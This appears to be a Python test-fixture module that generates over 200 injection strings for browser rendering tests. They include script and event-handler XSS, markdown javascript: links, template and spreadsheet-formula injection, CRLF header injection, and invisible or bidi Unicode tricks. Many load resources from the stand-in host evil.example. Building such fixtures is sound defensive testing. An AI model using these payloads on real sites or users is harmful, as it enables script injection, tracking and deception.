"""Texts that try to run, load or hide something, for every place where a text is shown.

A script that runs calls `xss()`, which the browser tests define; whatever is loaded comes from https://evil.example.
Collected by technique, after the families of OWASP's cheat sheet on filter evasion; written here, none copied.
"""

from __future__ import annotations

import itertools

EVIL = "https://evil.example"

TAGS = [
    "<script>xss()</script>", "<ScRiPt>xss()</sCrIpT>", "<script src={evil}/s.js></script>", "<script/x>xss()</script>",
    "<script\n>xss()</script\n>", "<scr<script>ipt>xss()</scr</script>ipt>", "<script>xss()", "<SCRIPT SRC=//evil.example/s.js>",
    "<script type=module>import '{evil}/m.js'</script>", "<svg><script>xss()</script></svg>", "<svg/onload=xss()>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>", "<svg><set onbegin=xss() attributename=x>",
    "<svg><a xlink:href=javascript:xss()><text y=20>x</text></a>", "<svg><use href='data:image/svg+xml,<svg onload=xss()>#x'/>",
    "<math><mtext><style><img src=x onerror=xss()></style></mtext></math>", "<math href=javascript:xss()>x</math>",
    "<img src=x onerror=xss()>", "<img src=x onerror='xss()'>", "<img/src/onerror=xss()>", "<img src=x:x onerror=&#120;ss()>",
    "<image src=x onerror=xss()>", "<img src={evil}/beacon.png>", "<img srcset={evil}/b.png>", "<picture><source srcset={evil}/b.png><img></picture>",
    "<iframe src=javascript:xss()></iframe>", "<iframe srcdoc='<script>parent.xss()</script>'></iframe>", "<iframe src={evil}></iframe>",
    "<object data=javascript:xss()></object>", "<object data={evil}/o.swf></object>", "<embed src={evil}/e.swf>", "<applet code=x archive={evil}/a.jar></applet>",
    "<body onload=xss()>", "<body onpageshow=xss()>", "<html onfocus=xss() tabindex=1>", "<frameset onload=xss()>",
    "<input autofocus onfocus=xss()>", "<select autofocus onfocus=xss()></select>", "<textarea autofocus onfocus=xss()></textarea>",
    "<button autofocus onfocus=xss()>x</button>", "<a autofocus onfocus=xss() href=#>x</a>", "<keygen autofocus onfocus=xss()>",
    "<details open ontoggle=xss()>x</details>", "<dialog open onclose=xss()>x</dialog>", "<marquee onstart=xss()>x</marquee>",
    "<video src=x onerror=xss()></video>", "<video poster={evil}/p.png></video>", "<audio src=x onerror=xss()></audio>", "<video><source onerror=xss()></video>",
    "<div style='background:url({evil}/c.png)'>x</div>", "<div style='animation:x' onanimationstart=xss()>x</div>",
    "<style>*{{background:url({evil}/c.png)}}</style>", "<style>@import '{evil}/c.css';</style>", "<style onload=xss()></style>",
    "<link rel=stylesheet href={evil}/c.css>", "<link rel=preload as=image href={evil}/l.png>", "<link rel=dns-prefetch href={evil}>",
    "<meta http-equiv=refresh content='0;url={evil}'>", "<meta http-equiv=Content-Security-Policy content=''>", "<base href={evil}/>",
    "<form action={evil}><button>x</button></form>", "<button form=answer formaction={evil}>Submit</button>", "<input name=csrf value=x form=answer>",
    "<isindex type=image src=x onerror=xss()>", "<template><script>xss()</script></template>", "<noscript><p title='</noscript><img src=x onerror=xss()>'>",
    "<textarea></textarea><script>xss()</script>", "</textarea><script>xss()</script>", "</title><script>xss()</script>", "</style><script>xss()</script>",
    "</script><script>xss()</script>", "</option></select><script>xss()</script>", "</main></body><script>xss()</script>", "--><script>xss()</script>",
    "<!--><script>xss()</script>", "<![CDATA[<script>xss()</script>]]>", "<?xml version='1.0'?><script>xss()</script>", "<x onclick=xss() autofocus tabindex=1 onfocus=xss()>x",
    "<custom-element onfocus=xss() tabindex=0 autofocus>", "<p id=answer>clobber</p>", "<img name=body>", "<a id=location href={evil}>x</a>",
    "<portal src={evil}></portal>", "<fencedframe src={evil}></fencedframe>", "<slot onslotchange=xss()>", "<menu onshow=xss()>",
]  # fmt: skip

MARKDOWN = [
    "[x](javascript:xss())", "[x](JaVaScRiPt:xss())", "[x](java\tscript:xss())", "[x](java&#10;script:xss())", "[x](&#106;avascript:xss())",
    "[x](\\x6aavascript:xss())", "[x](vbscript:xss())", "[x](data:text/html,<script>xss()</script>)", "[x](data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==)",
    "[x]({evil} \"onmouseover=xss()\")", "[x](<{evil}\" onmouseover=\"xss()>)", "[x]: javascript:xss()\n\n[x]", "[x]: {evil} '\"><script>xss()</script>'\n\n[x]",
    "![x]({evil}/beacon.png)", "![x]({evil}/beacon.png \"t\")", "![x](data:image/svg+xml,<svg onload=xss()>)", "![\"onerror=\"xss()](x)", "![x][y]\n\n[y]: {evil}/b.png",
    "<javascript:xss()>", "<{evil}/auto>", "{evil}/bare", "<a@evil.example\"onclick=xss()>", "[![x]({evil}/i.png)](javascript:xss())", "[a](javascript://x%0axss())",
    "`<script>xss()</script>`", "``<img src=x onerror=xss()>``", "    <script>xss()</script>", "> <script>xss()</script>", "- <img src=x onerror=xss()>", "1. <svg/onload=xss()>",
    "| <script>xss()</script> | <img src=x onerror=xss()> |\n|-|-|\n| <svg/onload=xss()> | x |", "# <script>xss()</script>", "**<script>xss()</script>**", "~~<img src=x onerror=xss()>~~",
    "$<script>xss()</script>$", "$$<img src=x onerror=xss()>$$", "\\(<svg/onload=xss()>\\)", "&lt;script&gt;xss()&lt;/script&gt;", "&#60;script&#62;xss()&#60;/script&#62;", "\\<script\\>xss()\\</script\\>",
    "*<img src=x* onerror=xss()>", "[<script>xss()</script>](x)", "[x](x \"<script>xss()</script>\")", "<https://evil.example/\"onmouseover=\"xss()>", "![](x\"onerror=\"xss())",
    "{evil}/?a=\"><script>xss()</script>", "[x](#answer)", "[x](/logout)", "[x](//evil.example)", "[x](\\\\evil.example)", "<details><summary>x</summary>x</details>",
    "```html\n<script>xss()</script>\n```", "```\"><script>xss()</script>\nx\n```", "~~~js onload=xss()\nxss()\n~~~", "```python\n</code></pre><script>xss()</script>\n```",
]  # fmt: skip

TEMPLATES = [
    "{{{{7*7}}}}", "{{{{config}}}}", "{{% for x in range(9) %}}x{{% endfor %}}", "{{{{''.__class__.__mro__}}}}", "${{7*7}}", "#{{7*7}}", "<%= 7*7 %>", "{{{{constructor.constructor('xss()')()}}}}",
    "__proto__", "constructor", "javascript:xss()", "'-xss()-'", "\"-xss()-\"", "';xss();//", "\");xss();//", "`${{xss()}}`", "\\u003cscript\\u003exss()\\u003c/script\\u003e", "%3Cscript%3Exss()%3C/script%3E",
    "=cmd|'/C calc'!A0", "+HYPERLINK(\"{evil}\")", "@SUM(1)", "-1+1", "\r\nSet-Cookie: x=1", "x\r\n\r\n<script>xss()</script>",
]  # fmt: skip

HIDDEN = [
    "a\u202e)(ssx>gpj.exe", "\u2066\u2067x\u2069\u2069", "\u202dabc\u202c", "pass\u200bword", "\u200b" * 40, "a\u2060b\ufeffc", "\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
    "\x00<script>xss()</script>", "<scr\x00ipt>xss()</script>", "\x1b[31mred\x1b[0m\x1b]8;;https://evil.example\x07x", "\x7f\x80\x9b", "\u2028<script>xss()</script>\u2029", "\ue000202E\ue001<script>xss()</script>",
    "\ufe64script\ufe65xss()\ufe64/script\ufe65", "\uff1cscript\uff1exss()\uff1c/script\uff1e", "\u0131mg", "Z\u0351\u036b\u0343\u036a\u0302\u036b" * 30, "\u115f\u3164\uffa0", "\u180e\u034f\u17b4", "👨\u200d👩\u200d👧",
]  # fmt: skip

QUOTES = ['"', "'", "`", "", '" ', "' "]
HANDLERS = ["onmouseover", "onfocus", "onpointerenter", "onanimationend", "oncontentvisibilityautostatechange"]


def payloads() -> list[str]:
    """More than 200 different texts."""
    breakouts = [
        f"{quote}{end}{handler}=xss() autofocus tabindex=1 x={quote}"
        for quote, end, handler in itertools.product(QUOTES, (" ", ">", "/"), HANDLERS)
    ]
    formed = [text.format(evil=EVIL) for text in (*TAGS, *MARKDOWN, *TEMPLATES)]
    found = list(dict.fromkeys([*formed, *HIDDEN, *breakouts]))
    assert len(found) >= 200
    return found
